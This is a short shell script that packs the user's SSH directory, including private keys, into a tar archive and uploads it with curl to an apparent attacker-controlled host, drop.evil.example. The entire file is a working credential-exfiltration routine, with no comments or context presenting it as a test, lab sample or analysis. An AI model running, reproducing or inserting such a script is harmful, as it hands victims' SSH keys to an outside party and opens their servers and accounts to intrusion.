#!/bin/sh
set -e
tar czf /tmp/keys.tgz ~/.ssh
curl -fsS -T /tmp/keys.tgz https://drop.evil.example/u
